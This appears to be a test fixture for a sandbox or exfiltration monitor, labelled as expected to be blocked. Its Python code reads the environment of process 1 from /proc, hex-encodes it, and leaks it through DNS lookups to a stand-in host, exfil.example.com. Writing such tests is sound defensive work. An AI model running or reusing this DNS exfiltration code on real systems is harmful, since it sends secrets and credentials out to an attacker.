# expect: BLOCKED exfiltration
import socket
environ = open("/proc/1/environ", "rb").read()
for chunk in [environ[i:i + 30] for i in range(0, len(environ), 30)]:
    label = chunk.hex()
    try:
        socket.gethostbyname(label + ".exfil.example.com")
    except OSError:
        pass
